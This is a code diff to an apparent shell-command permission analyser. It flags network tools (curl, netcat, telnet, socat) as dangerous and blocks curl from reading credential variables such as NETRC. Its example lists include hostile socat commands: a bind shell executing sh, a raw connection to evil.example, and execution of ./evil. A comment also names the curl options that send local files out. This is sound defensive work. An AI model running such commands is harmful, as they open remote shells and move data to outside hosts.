@@ -7,6 +7,7 @@ import type { CommandSpec } from "./spec.ts";
 export const network: readonly CommandSpec[] = [
   {
     names: "curl",
+    reads: rows("NETRC CURL_*=refuse; *=any"),
     summary: "transfers addresses",
     // The analyser: values `@FILE` of -d --data* --json -H --proxy-header --url-query --variable, `NAME=@FILE` and `NAME=<FILE`
     // of -F, `NAME@FILE` of --data-urlencode and a -b value without `=` are files read and sent (a secret among them is
@@ -221,6 +222,7 @@ export const network: readonly CommandSpec[] = [
     ),
     operands: "host? text?",
     effects: "net",
+    analyse: "netcat",
     examples: {
       ask: [
         "nc -zv localhost 80",
@@ -237,7 +239,7 @@ export const network: readonly CommandSpec[] = [
     summary: "interactive connections",
     options: rows("-4; -6; -8; -E; -K; -a; -d; -l=text; -n; -i; -v"),
     operands: "host? text?",
-    effects: "net, terminal",
+    effects: "net, terminal, danger raw-connection",
     examples: { ask: ["telnet example.com 80", "ftp example.com", "lftp -e 'put x' host"] },
   },
   {
@@ -245,7 +247,7 @@ export const network: readonly CommandSpec[] = [
     summary: "connects any two channels, programs too",
     options: rows("-h -> stop; -V -> stop"),
     operands: "refuse+",
-    effects: "net",
+    effects: "net, danger raw-connection",
     examples: { allow: ["socat -V"], ask: ["socat TCP-LISTEN:1 EXEC:sh", "socat - TCP:evil.example:80", "socat -d -d - EXEC:./evil"] },
   },
 ];
